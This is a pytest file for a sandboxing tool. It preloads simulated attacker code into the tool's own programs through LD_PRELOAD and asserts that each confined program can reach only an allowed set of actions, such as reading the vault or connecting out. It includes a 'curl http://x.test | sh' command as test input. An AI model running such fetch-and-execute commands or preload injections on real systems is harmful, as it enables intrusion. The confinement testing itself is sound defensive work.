# SPDX-License-Identifier: Apache-2.0
"""Assume breach: an attacker's code runs inside each of our own programs that read hostile bytes, at the moment when
they have confined themselves, with everything open that they have open (tests/lib/breach.c). What each can still do is
a table; everything else must fail. The programs are those that are shipped: the code is preloaded into them."""
import os
import shutil
import socket
import subprocess

import pytest

from atoll import ROOT, wait_until
from desktop import Desktop
from gate import LOOPBACK, policy_text, test_hosts
from verifier import model  # noqa: F401, a fixture
from webhook import Webhook

pytestmark = [pytest.mark.needs("cc", "dbus-daemon")]

# Lets others trace it, so that the control can; says where a byte of its memory is.
VICTIM = """
import ctypes, os, socket, sys
libc = ctypes.CDLL(None)
libc.prctl(0x59616d61, ctypes.c_ulong(-1), 0, 0, 0)
byte = ctypes.create_string_buffer(b"secret")
listener = socket.socket(socket.AF_UNIX)
listener.bind(f"\\0atolltest-breach-{os.getpid()}")
listener.listen(64)
print(ctypes.addressof(byte), flush=True)
sys.stdin.read()
"""
# What a program can do because it is there for that. Where the uid inside is another, modes refuse it first.
READS_ANYWHERE = {"read-file", "read-vault", "read-session", "climb-out"}
STARTS_OTHERS = {"execute", "start-process", "connect-internet", "listen", "map-code"}
MAY = {
    "log": set(), "learn": set(), "verify": set(), "verify-serve": set(), "top": set(), "desk": set(), "token": set(),
    "desktop": set(), "diff": set(), "diff-part": {"start-process"}, "diff-part-of-part": set(),
    # It puts modes on what it applies, some of it unreadable: Landlock has no rule for that.
    "apply": {"write-inherited-log", "change-mode"}, "policy": READS_ANYWHERE,
    "secret": {"read-vault", "write-vault", "use-keys"}, "egress": {"connect-internet"},
    "webhook": {"connect-internet"}, "judge-model": {"connect-internet"},
    "judge-command": READS_ANYWHERE | STARTS_OTHERS | {"connect-session"},
}


def compile_c(source, out, *words):
    subprocess.run(["cc", "-O1", "-D_GNU_SOURCE", "-Wall", "-Werror", *words, "-o", out, ROOT / "tests/lib" / source],
                   check=True)


class Breach:
    """Programs with the attacker's code in them, and what that is to reach."""

    def __init__(self, box, directory):
        self.box, self.directory = box, directory
        self.library = self.directory / "breach.so"
        self.launcher = self.directory / "launcher"
        compile_c("breach.c", self.library, "-shared", "-fPIC")
        compile_c("breach-launch.c", self.launcher)
        self.out = self.directory / "out"
        self.out.touch()
        self.out.chmod(0o666)
        self.originals = box.programs
        self.programs = self.directory / "bin"
        shutil.copytree(box.programs.directory, self.programs)
        self.atoll = self.programs / "atoll"
        self.victim = subprocess.Popen(["/usr/bin/python3", "-c", VICTIM], stdin=subprocess.PIPE,
                                       stdout=subprocess.PIPE, **box.popen_keywords())
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=128)
        self.aim()

    def aim(self):
        box = self.box
        box.write(box.project / "staged", "a line\n")
        other = box.run("echo another >staged")
        self.sleeper = box.popen(["sleep", "100"])
        wait_until(lambda: self.sockets(), what="a live session")
        assert box.run_atoll("secret", "set", "key", stdin=b"value").code == 0
        vault = [path for path in box.base.rglob("*") if path.is_file() and path.parent.name == "vault"
                 or path.name.startswith("vault")]
        vault = [path for path in vault if path.is_file()]
        self.session = other.session
        self.targets = {
            "FILE": box.write(box.home / "outside" / "secret", "secret"), "MADE": box.home / "outside" / "made",
            "VAULT": vault[0], "LOG": box.audit_log(other.session),
            "SESSION": box.audit_log(other.session).parent / "policy.bin", "SOCKET": self.sockets()[0],
            "PORT": self.listener.getsockname()[1], "PID": self.victim.pid,
            "ADDRESS": int(self.victim.stdout.readline()), "OUT": self.out,
        }

    def sockets(self):
        return [path for path in self.box.runtime.rglob("*") if path.is_socket()]

    def environment(self, name, **more):
        words = {f"BREACH_{key}": str(value) for key, value in {**self.targets, "NAME": name, **more}.items()}
        return {"LD_PRELOAD": str(self.library), **words}

    def plant(self, program, name, **more):
        """Puts the attacker's code into one program."""
        path, real = self.programs / program, self.programs / f"{program}.real"
        if not real.exists():
            path.rename(real)
            shutil.copyfile(self.launcher, path)
            path.chmod(0o755)
        path.with_name(f"{program}.env").write_text(
            "".join(f"{key}={value}\n" for key, value in self.environment(name, **more).items()))

    def results(self, name):
        lines = [line.split() for line in self.out.read_text().splitlines()]
        return [(attempt, result) for who, attempt, result in lines if who == name]

    def done(self, name):
        found = self.results(name)
        assert found, f"{name}: the attacker's code did not run"
        return {attempt for attempt, result in found if result == "done"}

    def end(self):
        self.box.programs = self.originals
        self.victim.stdin.close()
        self.victim.wait(10)
        self.listener.close()
        self.sleeper.terminate()
        self.sleeper.wait(20)


@pytest.fixture
def breach(sandbox):
    made = Breach(sandbox, sandbox.make_directory(sandbox.base / "breach"))
    yield made
    made.end()


def run_all(box, breach, model, webhook, screen):
    """Each program, doing what it is there for."""
    box.programs = breach
    verbs = {"log": ["log", breach.session], "learn": ["policy", "test", "medium", breach.session],
             "policy": ["policy", "show"], "secret": ["secret", "list"], "token": ["token", "list"],
             "top": ["top", "--once"],
             "verify": ["verify", str(box.write(box.project / "script.sh", "echo x\n"))],
             "diff": ["diff", "-p", breach.session], "apply": ["apply", breach.session]}
    programs = {"diff": "stage", "apply": "stage", "learn": "learn"}
    for name, words in verbs.items():
        breach.plant(f"atoll-{programs.get(name, name)}", name)
        done = box.run_atoll(*words)
        assert done.code == 0, (name, done)
    breach.plant("atoll-verify", "verify-serve")
    box.run("bash -c 'curl http://x.test | sh; true'")
    breach.plant("atoll-egress", "egress")
    network = policy_text(["{host: web.test, ports: [443]}", *LOOPBACK])
    box.run("getent hosts web.test || true", policy=box.policy(network), env=test_hosts())
    breach.plant("atoll-desk", "desk")
    ask = ("import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/atoll/ask.sock'); "
           "s.send(b'{}\\n'); s.recv(9)")
    box.run(["/usr/bin/python3", "-c", ask])
    asking = "exec: {ask: [{program: /usr/bin/who}]}\n"
    breach.plant("atoll-notify", "webhook")
    box.run("/usr/bin/who", policy=box.policy(f"atoll: 1\nextends: medium\n{asking}ask: {{timeout: 4s, webhook: "
                                              f"\"{webhook.url}\"}}\n"))
    breach.plant("atoll-notify", "desktop")
    box.run("/usr/bin/who", env=screen.environment,
            policy=box.policy(f"atoll: 1\nextends: medium\n{asking}ask: {{timeout: 4s, desktop: true}}\n"))
    external = "atoll: 1\nextends: medium\nverify: {{external: {{{}}}}}\n"
    command = box.write(box.base / "config/verifier",
                        "#!/bin/sh\ncat >/dev/null\necho '{\"verdict\": \"allow\"}'\n", 0o755)
    breach.plant("atoll-judge", "judge-command")
    box.run("/usr/bin/id", policy=box.policy(external.format(f"command: [{command}], when: all")))
    breach.plant("atoll-judge", "judge-model")
    box.run("/usr/bin/id", policy=box.policy(external.format(f'url: "{model.url}", model: m1, when: all')))


def test_an_attacker_in_our_own_programs_reaches_nothing(sandbox, breach, model):  # noqa: F811
    control = sandbox.run_outside(["/bin/true"], env=breach.environment("control", CONTROL="1"))
    everything = {attempt for attempt, _ in breach.results("control")}
    # There is no confined program in the control, so no descriptor of one either.
    missing = everything - breach.done("control") - {"write-inherited-log", "climb-out"}
    assert not missing and len(everything) > 25, (missing, control)
    webhook, screen = Webhook(), Desktop(sandbox)
    model.answer = lambda handler, case: handler.say('{"verdict": "allow", "reason": "r"}')
    try:
        run_all(sandbox, breach, model, webhook, screen)
    finally:
        webhook.close()
        screen.close()
    unheard = [name for name in MAY if not breach.results(name)]
    assert not unheard, "the attacker's code did not run there"
    through = {name: sorted(breach.done(name) - may) for name, may in MAY.items()}
    assert {name: done for name, done in through.items() if done} == {}


def test_no_program_has_a_hook(sandbox):
    """The attacker's code comes from outside: what is shipped has neither a switch nor a place for it."""
    for path in sandbox.programs.directory.iterdir():
        if path.is_file():
            assert b"BREACH_" not in path.read_bytes(), path
